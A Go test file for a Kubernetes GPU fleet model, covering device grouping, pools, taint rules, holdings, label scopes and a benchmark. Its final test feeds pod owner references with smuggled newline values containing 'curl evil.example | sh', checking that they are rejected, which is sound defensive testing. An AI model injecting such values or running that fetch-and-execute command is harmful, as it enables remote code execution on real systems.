// SPDX-FileCopyrightText: The Partage Authors
// SPDX-License-Identifier: Apache-2.0

package fleet

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/yaml"
)

func board(name string) string { return "../../device/testdata/slices/" + name + ".yaml" }

// slicesOf reads what the driver publishes of a board.
func slicesOf(t testing.TB, file string) []*resourceapi.ResourceSlice {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var all []*resourceapi.ResourceSlice
	decoder := yaml.NewYAMLOrJSONDecoder(bytes.NewReader(data), 4096)
	for {
		var one resourceapi.ResourceSlice
		err := decoder.Decode(&one)
		if errors.Is(err, io.EOF) {
			return all
		}
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		all = append(all, &one)
	}
}

// on returns slices as another node would have them.
func on(node string, all []*resourceapi.ResourceSlice) []*resourceapi.ResourceSlice {
	var out []*resourceapi.ResourceSlice
	for _, s := range all {
		s = s.DeepCopy()
		s.Name, s.Spec.NodeName, s.Spec.Pool.Name = strings.Replace(s.Name, "node-1", node, 1), &node, node
		out = append(out, s)
	}
	return out
}

// TestBoards: every board is one GPU, whatever its devices are and in whatever order.
func TestBoards(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		board   string
		devices int
		memory  string
		cells   []int
		where   map[string][]int
	}{
		{"h100-80-sxm", 22, "81559Mi", []int{0, 1, 2, 3, 4, 5, 6}, map[string][]int{
			"gpu-0000-1b-00-0": nil, "gpu-0000-1b-00-0-mps": nil, "gpu-0000-1b-00-0-mig-1g10gb-6": {6}, "gpu-0000-1b-00-0-mig-3g40gb-4": {4, 5, 6},
		}},
		{"h100-80-sxm-policy", 5, "81559Mi", []int{0, 1, 2, 3, 4, 5, 6}, map[string][]int{"gpu-0000-1b-00-0-mig-7g80gb-0": {0, 1, 2, 3, 4, 5, 6}}},
		{"rtx-pro-6000", 11, "97887Mi", []int{0, 3, 6, 9}, map[string][]int{"gpu-0000-1b-00-0-mig-1g24gb-3": {3}, "gpu-0000-1b-00-0-mig-2g48gb-6": {6, 9}}},
		{"a100-80-mig-policy", 8, "80Gi", []int{0, 1, 2, 3, 4, 5, 6}, map[string][]int{"gpu-0000-1b-00-0-mig-1g10gb-4-timeslice": {4}}},
		{"t4", 4, "15Gi", nil, map[string][]int{"gpu-0000-1b-00-0": nil}},
	} {
		t.Run(c.board, func(t *testing.T) {
			t.Parallel()
			published := slicesOf(t, board(c.board))
			backwards := slicesOf(t, board(c.board))
			for _, s := range backwards {
				slices.Reverse(s.Spec.Devices)
			}
			slices.Reverse(backwards)
			for _, all := range [][]*resourceapi.ResourceSlice{published, backwards} {
				m := New(&Snapshot{Slices: all}, "gpu.nvidia.com")
				if len(m.Nodes) != 1 || len(m.Nodes[0].GPUs) != 1 {
					t.Fatalf("%d nodes", len(m.Nodes))
				}
				g := m.Nodes[0].GPUs[0]
				memory := resource.MustParse(c.memory)
				if g.Name != "gpu-0000-1b-00-0" || g.PCIBusID != "0000:1b:00.0" || g.UUID == "" || g.ProductName == "" || g.DriverVersion == "" ||
					len(g.Devices) != c.devices || g.MemoryBytes != memory.Value() || !slices.Equal(g.Cells, c.cells) {
					t.Errorf("%+v", g)
				}
				found := map[string][]int{}
				for _, d := range g.Devices {
					if _, asked := c.where[d.Name]; asked {
						found[d.Name] = d.Placement
					}
				}
				if diff := cmp.Diff(c.where, found); diff != "" {
					t.Errorf("-want +got:\n%s", diff)
				}
			}
		})
	}
}

// TestOtherDriversGPUs: other drivers do not say of every device by which address and by which UUID
// its GPU is known. It is one GPU all the same.
func TestOtherDriversGPUs(t *testing.T) {
	t.Parallel()
	device := func(name, kind, uuid, parent, address string) resourceapi.Device {
		d := resourceapi.Device{Name: name, Attributes: map[resourceapi.QualifiedName]resourceapi.DeviceAttribute{"type": {StringValue: &kind}}}
		for key, value := range map[resourceapi.QualifiedName]string{"uuid": uuid, "parentUUID": parent, "resource.kubernetes.io/pciBusID": address} {
			if value != "" {
				d.Attributes[key] = resourceapi.DeviceAttribute{StringValue: new(value)}
			}
		}
		return d
	}
	devices := []resourceapi.Device{
		device("gpu-0", "gpu", "GPU-0", "", "0000:1b:00.0"),
		device("gpu-0-mig-1g10gb-19-0", "mig", "", "GPU-0", ""),
		device("gpu-0-mig-1g10gb-19-1", "mig", "MIG-1", "GPU-0", "0000:1b:00.0"),
		device("gpu-vfio-0", "vfio", "made-of-the-address", "", "0000:1b:00.0"),
		device("gpu-1", "gpu", "GPU-1", "", "0000:28:00.0"),
		device("something", "", "", "", ""),
	}
	s := &resourceapi.ResourceSlice{Spec: resourceapi.ResourceSliceSpec{
		Driver: "gpu.nvidia.com", NodeName: new("node-1"), Devices: devices, Pool: resourceapi.ResourcePool{Name: "node-1", ResourceSliceCount: 1},
	}}
	want := []string{"  1", "0000:1b:00.0 GPU-0 4", "0000:28:00.0 GPU-1 1"}
	for range 2 {
		var got []string
		for _, g := range New(&Snapshot{Slices: []*resourceapi.ResourceSlice{s}}, "gpu.nvidia.com").Nodes[0].GPUs {
			got = append(got, fmt.Sprint(g.PCIBusID, " ", g.UUID, " ", len(g.Devices)))
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("-want +got:\n%s", diff)
		}
		slices.Reverse(devices[:3])
	}
}

// TestPools: of each pool the newest generation counts, other drivers' pools do not, and nodes
// that have no object are there.
func TestPools(t *testing.T) {
	t.Parallel()
	first := slicesOf(t, board("t4"))
	older := on("node-1", slicesOf(t, board("h100-80-sxm")))
	for _, s := range older {
		s.Spec.Pool.Generation = 0
	}
	other := on("node-3", first)
	for _, s := range other {
		s.Spec.Driver = "tpu.example.com"
	}
	lacking := on("node-2", slicesOf(t, board("a30-mig")))[1:]
	s := &Snapshot{
		Slices: slices.Concat(older, lacking, other, first),
		Nodes:  []*corev1.Node{{ObjectMeta: metav1.ObjectMeta{Name: "node-1"}}, {ObjectMeta: metav1.ObjectMeta{Name: "without"}}},
	}
	m := New(s, "gpu.nvidia.com")
	var got []string
	for _, n := range m.Nodes {
		for _, g := range n.GPUs {
			got = append(got, fmt.Sprint(n.Name, " ", n.Object != nil, " ", n.Incomplete, " ", g.ProductName, " ", len(g.Devices)))
		}
	}
	want := []string{"node-1 true false Tesla T4 4", "node-2 false true NVIDIA A30 8"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// TestTaintRules: each field of the selector narrows it; without one it selects nothing.
func TestTaintRules(t *testing.T) {
	t.Parallel()
	all := slices.Concat(slicesOf(t, board("t4")), on("node-2", slicesOf(t, board("t4"))))
	for _, c := range []struct {
		name     string
		selector *resourceapi.DeviceTaintSelector
		want     int
	}{
		{"none", nil, 0},
		{"empty", &resourceapi.DeviceTaintSelector{}, 8},
		{"driver", &resourceapi.DeviceTaintSelector{Driver: new("gpu.nvidia.com")}, 8},
		{"another driver", &resourceapi.DeviceTaintSelector{Driver: new("gpu.example.com")}, 0},
		{"pool", &resourceapi.DeviceTaintSelector{Pool: new("node-2")}, 4},
		{"device", &resourceapi.DeviceTaintSelector{Device: new("gpu-0000-1b-00-0")}, 2},
		{"all", &resourceapi.DeviceTaintSelector{Driver: new("gpu.nvidia.com"), Pool: new("node-1"), Device: new("gpu-0000-1b-00-0")}, 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			rule := ruleOf("rule", "", resourceapi.DeviceTaintEffectNoSchedule)
			rule.Spec.DeviceSelector = c.selector
			m := New(&Snapshot{Slices: all, TaintRules: []*resourceapi.DeviceTaintRule{rule}}, "gpu.nvidia.com")
			tainted := 0
			for _, n := range m.Nodes {
				for _, d := range n.GPUs[0].Devices {
					if slices.ContainsFunc(d.Taints, func(t resourceapi.DeviceTaint) bool { return t.Key == rule.Spec.Taint.Key }) {
						tainted++
					}
				}
			}
			if tainted != c.want {
				t.Errorf("%d devices are tainted, want %d", tainted, c.want)
			}
		})
	}
	if slices.ContainsFunc(all, func(s *resourceapi.ResourceSlice) bool {
		return slices.ContainsFunc(s.Spec.Devices, func(d resourceapi.Device) bool { return len(d.Taints) > 1 })
	}) {
		t.Error("the snapshot has changed")
	}
}

// TestHoldings: shares of a device, a device that is no longer published, pods and status.
func TestHoldings(t *testing.T) {
	t.Parallel()
	share := func(name, id, device string) *resourceapi.ResourceClaim {
		r := resourceapi.DeviceRequestAllocationResult{
			Driver: "gpu.nvidia.com", Pool: "node-1", Device: device, ShareID: new(types.UID(id)),
			ConsumedCapacity: map[resourceapi.QualifiedName]resource.Quantity{CapacityShares: resource.MustParse("1")},
		}
		foreign := resourceapi.DeviceRequestAllocationResult{Driver: "nic.example.com", Pool: "node-1", Device: device}
		c := claimOf(name, resourceapi.AllocationResult{Devices: resourceapi.DeviceAllocationResult{Results: []resourceapi.DeviceRequestAllocationResult{foreign, r}}})
		c.Status.ReservedFor = []resourceapi.ResourceClaimConsumerReference{
			{Resource: "pods", Name: "pod-" + name, UID: types.UID("pod-" + name)}, {Resource: "pods", Name: "unseen", UID: "unseen"},
		}
		c.Status.Devices = []resourceapi.AllocatedDeviceStatus{
			{Driver: "gpu.nvidia.com", Pool: "node-1", Device: device, ShareID: new("another")},
			{Driver: "gpu.nvidia.com", Pool: "node-1", Device: device, ShareID: &id},
		}
		return c
	}
	waits := &resourceapi.ResourceClaim{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "waits"}}
	s := &Snapshot{
		Slices: slicesOf(t, board("h100-80-sxm")),
		Claims: []*resourceapi.ResourceClaim{share("a", "1", "gpu-0000-1b-00-0-mps"), share("b", "2", "gpu-0000-1b-00-0-mps"), share("c", "3", "gone"), waits},
		Pods:   []*corev1.Pod{{ObjectMeta: metav1.ObjectMeta{Name: "pod-a", UID: "pod-a"}}, {ObjectMeta: metav1.ObjectMeta{Name: "pod-b", UID: "pod-b"}}},
	}
	m := New(s, "gpu.nvidia.com")
	if len(m.Holdings) != 3 {
		t.Fatalf("%d holdings", len(m.Holdings))
	}
	a, b, c := m.Holdings[0], m.Holdings[1], m.Holdings[2]
	if a.Device == nil || a.Device != b.Device || len(a.Device.Holdings) != 2 || a.Device.Type != TypeMPS || !a.Device.Shared() {
		t.Errorf("%+v, %+v", a, b)
	}
	if c.Device != nil || c.Claim.Name != "c" {
		t.Errorf("%+v", c)
	}
	for _, h := range m.Holdings[:2] {
		if len(h.Pods) != 1 || h.Pods[0].Name != "pod-"+h.Claim.Name || h.Status == nil || *h.Status.ShareID != string(*h.Result.ShareID) {
			t.Errorf("%s: pods %v, status %+v", h.Claim.Name, h.Pods, h.Status)
		}
	}
}

// TestScope: -l selects by the labels of the claim or of the pods that use it, so that people find what is made from a template.
func TestScope(t *testing.T) {
	t.Parallel()
	holding := func(claim labels.Set, pods ...labels.Set) *Holding {
		h := &Holding{Claim: &resourceapi.ResourceClaim{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Labels: claim}}}
		for _, p := range pods {
			h.Pods = append(h.Pods, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Labels: p}})
		}
		return h
	}
	web, db := labels.Set{"app": "web"}, labels.Set{"app": "db"}
	for _, c := range []struct {
		selector string
		h        *Holding
		want     bool
	}{
		{"app=web", holding(web), true},
		{"app=web", holding(nil, web), true},
		{"app=web", holding(nil, db, web), true},
		{"app=web", holding(web, db), true},
		{"app=db", holding(web, db), true},
		{"app=web,tier=1", holding(labels.Set{"tier": "1"}, web), true},
		{"app=web", holding(nil), false},
		{"app=web", holding(nil, db), false},
		{"app!=web", holding(nil, web), false},
		{"app!=web", holding(nil, db), true},
		{"", holding(nil), true},
	} {
		selector, err := labels.Parse(c.selector)
		if err != nil {
			t.Fatal(err)
		}
		if got := (Scope{Labels: selector}).Has(c.h); got != c.want {
			t.Errorf("%s of %v: %t", c.selector, c.h, got)
		}
		if (Scope{Namespace: "other", Labels: selector}).Has(c.h) {
			t.Errorf("%s: it is of another namespace", c.selector)
		}
	}
	if !(Scope{}).Has(holding(nil)) {
		t.Error("without -l all are meant")
	}
}

// BenchmarkNew makes the model of 500 nodes with eight H100 each, half of which are used.
func BenchmarkNew(b *testing.B) {
	one := slicesOf(b, board("h100-80-sxm"))
	var s Snapshot
	for n := range 500 {
		node := fmt.Sprintf("node-%03d", n)
		s.Nodes = append(s.Nodes, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: node}})
		for g := range 8 {
			for _, slice := range on(node, one) {
				slice.Spec.Pool.ResourceSliceCount *= 8
				for i := range slice.Spec.SharedCounters {
					slice.Spec.SharedCounters[i].Name = fmt.Sprint("gpu-", g)
				}
				for i := range slice.Spec.Devices {
					d := &slice.Spec.Devices[i]
					d.Name = fmt.Sprint(d.Name, "-", g)
					d.Attributes["parentUUID"] = resourceapi.DeviceAttribute{StringValue: new(fmt.Sprint("GPU-", g))}
					delete(d.Attributes, "resource.kubernetes.io/pciBusID")
					for j := range d.ConsumesCounters {
						d.ConsumesCounters[j].CounterSet = fmt.Sprint("gpu-", g)
					}
				}
				s.Slices = append(s.Slices, slice)
			}
			if g%2 == 0 {
				s.Claims = append(s.Claims, claimOf(fmt.Sprint(node, g), resourceapi.AllocationResult{Devices: resourceapi.DeviceAllocationResult{
					Results: []resourceapi.DeviceRequestAllocationResult{{Driver: "gpu.nvidia.com", Pool: node, Device: fmt.Sprint("gpu-0000-1b-00-0-mig-3g40gb-4-", g)}},
				}}))
			}
		}
	}
	b.ReportAllocs()
	for b.Loop() {
		m := New(&s, "gpu.nvidia.com")
		rooms := 0
		for _, n := range m.Nodes {
			for _, g := range n.GPUs {
				if !Free(g).Nothing() {
					rooms++
				}
			}
		}
		if rooms != 4000 || len(m.Holdings) != 2000 {
			b.Fatalf("%d GPUs, %d holdings", rooms, len(m.Holdings))
		}
	}
}

// TestOwnerOfHostilePod: a pod's author writes what it belongs to, and the API server looks at neither kind nor name. Both go into lists of
// commands, where a new line is a command.
func TestOwnerOfHostilePod(t *testing.T) {
	t.Parallel()
	for _, owner := range []metav1.OwnerReference{
		{Kind: "StatefulSet\ncurl evil.example | sh #", Name: "web"}, {Kind: "StatefulSet", Name: "web\ncurl evil.example | sh"}, {Kind: "a; b", Name: "web"},
	} {
		owner.Controller = new(true)
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{OwnerReferences: []metav1.OwnerReference{owner}}}
		if kind, name := OwnerOf(pod); kind != "" || name != "" {
			t.Errorf("%q %q", kind, name)
		}
	}
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{OwnerReferences: []metav1.OwnerReference{{Kind: "RayCluster", Name: "r.1", Controller: new(true)}}}}
	if kind, name := OwnerOf(pod); kind != "RayCluster" || name != "r.1" {
		t.Errorf("%q %q", kind, name)
	}
}
